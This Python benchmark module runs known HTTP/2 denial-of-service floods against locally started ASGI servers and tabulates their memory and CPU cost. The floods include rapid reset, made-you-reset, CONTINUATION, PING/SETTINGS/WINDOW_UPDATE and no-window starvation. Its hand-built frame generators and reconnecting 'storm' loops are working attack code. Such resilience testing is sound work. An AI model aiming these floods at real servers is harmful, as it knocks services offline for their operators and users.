"""What HTTP/2 attacks cost a server: `python -m benchmarks.h2_attacks [--server NAME …] [--attack NAME …] [--python PATH]`.

Each attack of spec part C runs against a server of its own, which is loaded with ordinary requests first. Once slowly, a few frames at a
time with a look for an answer after each: that gives the answer and how many frames were in by then, at most. Then at full speed on
one connection after another: that gives memory (the peak of the whole process tree over what it had before) and CPU time for a thousand
frames, whether they were read or thrown away. The last two rows ask for 100 responses of 10 MiB with no window to send them in: given
whole, the same object every time, so that what memory grows by is copies; and given in parts of 64 KiB, each made anew, as long as
`send()` lets the application go on.

The peers run in `.benchmarks/venv-<python version>`, which `benchmarks.load` makes. Daphne speaks HTTP/2 over TLS only, the others in
cleartext. `unlimited` means that every frame the budget holds was taken.
"""

from __future__ import annotations

import argparse
import platform
import select
import socket
import ssl
import struct
import sys
import tempfile
from collections import Counter
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from time import monotonic, sleep
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterator
    from typing import Any

ROOT = Path(__file__).parents[1]
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_WINDOW: Final = (1 << 31) - 1
STREAMS: Final = 100
MIB: Final = 1 << 20
LARGE: Final = bytes(10 * MIB)
CODES = [
    "NO_ERROR",
    "PROTOCOL_ERROR",
    "INTERNAL_ERROR",
    "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT",
    "STREAM_CLOSED",
    "FRAME_SIZE_ERROR",
    "REFUSED_STREAM",
    "CANCEL",
    "COMPRESSION_ERROR",
    "CONNECT_ERROR",
    "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY",
    "HTTP_1_1_REQUIRED",
]
_PART = 65_536
_SLOW_BATCH, _LOOK_SECONDS, _FAST_BATCH = 10, 0.002, 500
_SLOW_FRAMES, _SETTLE_SECONDS, _ANSWER_SECONDS, _GROWING_SECONDS = 20_000, 1.5, 10.0, 30.0


async def app(scope: dict[str, Any], receive: Callable[[], Awaitable[object]], send: Callable[[dict[str, Any]], Awaitable[None]]) -> None:
    """Answer: /large and /parts with ten megabytes, everything else with a word once the body is there."""
    if scope["type"] != "http":
        return
    body = LARGE if scope["path"] == "/large" else b"hello"
    more = True
    while more:
        message: Any = await receive()
        if message["type"] == "http.disconnect":
            return
        more = message.get("more_body", False)
    if scope["path"] == "/parts":
        await send({"type": "http.response.start", "status": 200, "headers": []})
        for left in reversed(range(len(LARGE) // _PART)):
            await send({"type": "http.response.body", "body": b"x" * _PART, "more_body": left > 0})
        return
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"%d" % len(body))]})
    await send({"type": "http.response.body", "body": body})


# ---------------------------------------------------------------------- the client


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Build a frame."""
    return struct.pack("!IBI", len(payload) << 8 | kind, flags, stream) + payload


class Cut(Exception):
    """The server ended the connection."""


class Client:
    """One connection that reads what comes and opens no window."""

    def __init__(self, port: int, *, tls: bool, window: int | None = None) -> None:
        """Connect and greet; `window` is the initial one of streams."""
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=_ANSWER_SECONDS)
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # the certificate is the run's own
            context.set_alpn_protocols(["h2"])
            self._socket = context.wrap_socket(self._socket)
        self.scheme = b"\x87" if tls else b"\x86"
        self.last = -1
        self.goaway: str | None = None
        self.resets: Counter[str] = Counter()
        self.kinds: Counter[int] = Counter()
        self._held = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0, b"" if window is None else struct.pack("!HI", 4, window)))

    def close(self) -> None:
        """Leave."""
        self._socket.close()

    def head(self, *, path: bytes = b"/", post: bool = False) -> bytes:
        """Build the header block of a request, from the static table and literals alone (RFC 7541)."""
        return (b"\x83" if post else b"\x82") + self.scheme + b"\x04" + bytes([len(path)]) + path + b"\x01\x01a"

    def ask(self, *, path: bytes = b"/") -> bytes:
        """Build a whole request."""
        self.last += 2
        return frame(HEADERS, END_HEADERS | END_STREAM, self.last, self.head(path=path))

    def send(self, data: bytes) -> None:
        """Send, reading what comes meanwhile. Raises `Cut`."""
        view = memoryview(data)
        while view:
            self.look(0)
            if select.select([], [self._socket], [], 0.05)[1]:
                try:
                    self._socket.settimeout(0.05)
                    view = view[self._socket.send(view) :]
                except TimeoutError:
                    continue
                except OSError:
                    self._last_words()
                    raise Cut from None

    def look(self, seconds: float) -> None:
        """Take what is there, or comes within that time. Raises `Cut`."""
        while self._readable(seconds):
            seconds = 0
            try:
                data = self._socket.recv(1 << 18)
            except TimeoutError:
                return
            except OSError:
                raise Cut from None
            self._take(data)
            if not data:
                raise Cut

    def wait(self, condition: Callable[[], object], seconds: float) -> bool:
        """Read until it holds; whether it does."""
        end = monotonic() + seconds
        while not condition():
            if monotonic() >= end:
                return False
            self.look(0.05)
        return True

    def _readable(self, seconds: float) -> bool:
        if isinstance(self._socket, ssl.SSLSocket) and self._socket.pending():
            return True
        return bool(select.select([self._socket], [], [], seconds)[0])

    def _last_words(self) -> None:
        with suppress(OSError, Cut):
            self._socket.settimeout(1)
            while data := self._socket.recv(1 << 18):
                self._take(data)

    def _take(self, data: bytes) -> None:
        held, position = self._held + data, 0
        while len(held) - position >= 9:
            word, flags, _stream = struct.unpack_from("!IBI", held, position)
            end = position + 9 + (word >> 8)
            if end > len(held):
                break
            self._note(word & 0xFF, flags, held[position + 9 : end])
            position = end
        self._held = held[position:]

    def _note(self, kind: int, flags: int, payload: bytes) -> None:
        self.kinds[kind] += 1
        if kind == SETTINGS and not flags & ACK:
            with suppress(OSError):  # it has gone: the next look says so
                self._socket.sendall(frame(SETTINGS, ACK, 0))
        if kind == GOAWAY:
            self.goaway = _code(payload[4:8])
        elif kind == RST_STREAM:
            self.resets[_code(payload)] += 1


def _code(raw: bytes) -> str:
    number = int.from_bytes(raw)
    return CODES[number] if number < len(CODES) else hex(number)


# ---------------------------------------------------------------------- the attacks


def rapid_reset(client: Client) -> Iterator[bytes]:
    """HEADERS and RST_STREAM (CVE-2023-44487)."""
    while True:
        yield client.ask()
        yield frame(RST_STREAM, 0, client.last, struct.pack("!I", 8))


def made_you_reset(client: Client) -> Iterator[bytes]:
    """HEADERS and a WINDOW_UPDATE that overflows (CVE-2025-8671)."""
    while True:
        yield client.ask()
        yield frame(WINDOW_UPDATE, 0, client.last, struct.pack("!I", LARGEST_WINDOW))


def continuations(client: Client) -> Iterator[bytes]:
    """CONTINUATION without end (VU#421644)."""
    yield frame(HEADERS, END_STREAM, 1, client.head())
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 10)


def again(data: bytes) -> Callable[[Client], Iterator[bytes]]:
    """Make an attack of one frame."""

    def attack(_: Client) -> Iterator[bytes]:
        while True:
            yield data

    return attack


def on_a_body(data: bytes) -> Callable[[Client], Iterator[bytes]]:
    """Make an attack of one frame on the stream of a request whose body has begun."""

    def attack(client: Client) -> Iterator[bytes]:
        client.last += 2
        yield frame(HEADERS, END_HEADERS, client.last, client.head(post=True))
        while True:
            yield data

    return attack


ATTACKS: Final = {
    "C1 rapid reset": rapid_reset,
    "C2 made you reset": made_you_reset,
    "C3 CONTINUATION": continuations,
    "C9 PING": again(frame(PING, 0, 0, bytes(8))),
    "C10 PRIORITY": again(frame(PRIORITY, 0, 3, struct.pack("!IB", 1, 1))),
    "C12 SETTINGS": again(frame(SETTINGS, 0, 0)),
    "C14 empty DATA": on_a_body(frame(DATA, 0, 1)),
    "C14 DATA of a byte": on_a_body(frame(DATA, 0, 1, b"x")),
    "L29 WINDOW_UPDATE": again(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1))),
}
NO_WINDOW: Final = {"C8 no window, whole": b"/large", "C8 no window, parts": b"/parts"}


@dataclass(slots=True)
class Finding:
    """What came of one attack on one server."""

    server: str
    attack: str
    answer: str = ""
    frames: str = "-"
    growth: int | None = None
    cpu: float | None = None
    notes: list[str] = field(default_factory=list)

    def row(self) -> str:
        """Give its line of the table."""
        growth = "-" if self.growth is None else f"{self.growth / MIB:.1f}"
        cpu = "-" if self.cpu is None else f"{self.cpu:.1f}"
        return f"| {self.attack} | {self.server} | {self.answer} | {self.frames} | {growth} | {cpu} |"


def answer_of(client: Client, *, cut: bool) -> str:
    """Say what a client was answered."""
    words = [f"GOAWAY({client.goaway})"] if client.goaway is not None else []
    words += [f"{count} × RST({code})" for code, count in client.resets.most_common(2)]
    words += ["closed"] if cut and client.goaway is None else []
    return ", ".join(words) or "none"


def probe(client: Client, attack: Callable[[Client], Iterator[bytes]], most: int) -> tuple[str, str]:
    """Send a few frames at a time; give the answer, and after how many frames at most it came."""
    source, sent, cut = attack(client), 0, False
    try:
        while sent < most and client.goaway is None:
            client.send(b"".join(next(source) for _ in range(_SLOW_BATCH)))
            sent += _SLOW_BATCH
            client.look(_LOOK_SECONDS)
        client.wait(lambda: client.goaway is not None, _SETTLE_SECONDS)
    except Cut:
        cut = True
    ended = cut or client.goaway is not None
    return answer_of(client, cut=cut), f"≤ {sent:,}" if ended else f"{sent:,}, unlimited"


def storm(connect: Callable[[], Client], attack: Callable[[Client], Iterator[bytes]], seconds: float) -> int:
    """Attack at full speed, on a new connection whenever the last one was cut; give how many frames were sent."""
    end, sent = monotonic() + seconds, 0
    while monotonic() < end:
        client = connect()
        source = attack(client)
        try:
            while monotonic() < end and client.goaway is None:
                client.send(b"".join(next(source) for _ in range(_FAST_BATCH)))
                sent += _FAST_BATCH
            client.wait(lambda: False, 0.02)
        except Cut:
            pass  # the next one
        finally:
            client.close()
    return sent


def starve(client: Client, path: bytes) -> str:
    """Ask for a gigabyte and give no window for it; say what came."""
    cut = False
    try:
        client.send(b"".join(client.ask(path=path) for _ in range(STREAMS)))
        client.wait(lambda: client.kinds[HEADERS] >= STREAMS, _ANSWER_SECONDS)
        client.wait(lambda: False, _SETTLE_SECONDS)
    except Cut:
        cut = True
    return f"{client.kinds[HEADERS]} heads, {answer_of(client, cut=cut)}"


# ---------------------------------------------------------------------- the servers


def _forget_peak(session: int) -> int:
    from benchmarks.load.measure import peak_rss, session_members

    for pid in session_members(session):
        with suppress(OSError):
            Path("/proc", str(pid), "clear_refs").write_text("5", encoding="ascii")
    return peak_rss(session)


def _settled(session: int) -> int:
    """Wait until a server's memory grows no more; give its peak."""
    from benchmarks.load.measure import peak_rss

    end, last = monotonic() + _GROWING_SECONDS, -1
    while (now := peak_rss(session)) != last and monotonic() < end:
        last = now
        sleep(_SETTLE_SECONDS)
    return now


@contextmanager
def _served(name: str, python: Path) -> Iterator[tuple[int, Callable[..., Client]]]:
    """Run a server; give its session and how to connect to it."""
    from benchmarks.load.identity import make_identity
    from benchmarks.load.running import running
    from benchmarks.load.scenarios import Load, Scenario
    from benchmarks.load.servers import SERVERS

    server = SERVERS[name]
    tls = "h2" in server.unable
    scenario = Scenario(name="h2-attacks", about="", requests=(), app="benchmarks.h2_attacks:app", load=Load.STREAMS, tls=tls)
    with tempfile.TemporaryDirectory(prefix="attacks-") as directory:
        identity = make_identity(Path(directory)) if tls else None
        with running(server, scenario, python, 0, Path(directory), identity) as up:

            def connect(window: int | None = None) -> Client:
                return Client(up.port, tls=tls, window=window)

            _warm_up(connect)
            yield up.session, connect


def _warm_up(connect: Callable[[], Client]) -> None:
    """Ask a thousand times, so that what a server allocates once is there. Raises `Unusable`."""
    from benchmarks.load.measure import Unusable

    for _ in range(20):
        client = connect()  # daphne answers a hundred requests of a connection, then no more
        try:
            client.send(b"".join(client.ask() for _ in range(50)))
            if not client.wait(lambda client=client: client.kinds[HEADERS] >= 50, _ANSWER_SECONDS):  # type: ignore[misc]
                message = f"{client.kinds[HEADERS]} of 50 ordinary requests were answered"
                raise Unusable(message)
        finally:
            client.close()


def measure(name: str, attack: str, python: Path, seconds: float) -> Finding:
    """Attack a server in one way."""
    from benchmarks.load.measure import Unusable, cpu_seconds, peak_rss

    finding = Finding(name, attack)
    try:
        with _served(name, python) as (session, connect):
            before = _forget_peak(session)
            client = connect(0 if attack in NO_WINDOW else None)
            if attack in NO_WINDOW:
                finding.answer, finding.frames = starve(client, NO_WINDOW[attack]), str(STREAMS)
                finding.growth = _settled(session) - before
                client.close()
                return finding
            finding.answer, finding.frames = probe(client, ATTACKS[attack], _SLOW_FRAMES)
            client.close()
            began = cpu_seconds(session)
            sent = storm(connect, ATTACKS[attack], seconds)
            finding.cpu = (cpu_seconds(session) - began) * 1e6 / sent if sent else None
            finding.growth = peak_rss(session) - before
    except (Unusable, Cut, OSError) as problem:
        finding.answer = finding.answer or f"failed: {type(problem).__name__} {problem}"
    return finding


def main() -> int:
    """Print the table."""
    from benchmarks.load.servers import SERVERS

    known = [name for name in SERVERS if name != "uvicorn-websockets"]
    attacks = [*ATTACKS, *NO_WINDOW]
    venv = ROOT / ".benchmarks" / f"venv-{platform.python_version()}" / "bin" / "python"
    parser = argparse.ArgumentParser(prog="python -m benchmarks.h2_attacks", description="Attack HTTP/2 servers; print what it cost them.")
    parser.add_argument("--server", action="append", choices=known, help="default: termserver; more than one may be given")
    parser.add_argument("--attack", action="append", choices=attacks, help="default: all")
    parser.add_argument("--python", type=Path, default=venv, help="interpreter that has the servers installed (default %(default)s)")
    parser.add_argument("--seconds", type=float, default=2.0, help="of each storm (default %(default)s)")
    options = parser.parse_args()
    print("| attack | server | answer | frames in by then | memory, MiB | CPU ms per 1 000 frames |\n| --- | --- | --- | --- | --- | --- |")
    for attack in options.attack or attacks:
        for name in options.server or ["termserver"]:
            print(measure(name, attack, options.python, options.seconds).row(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
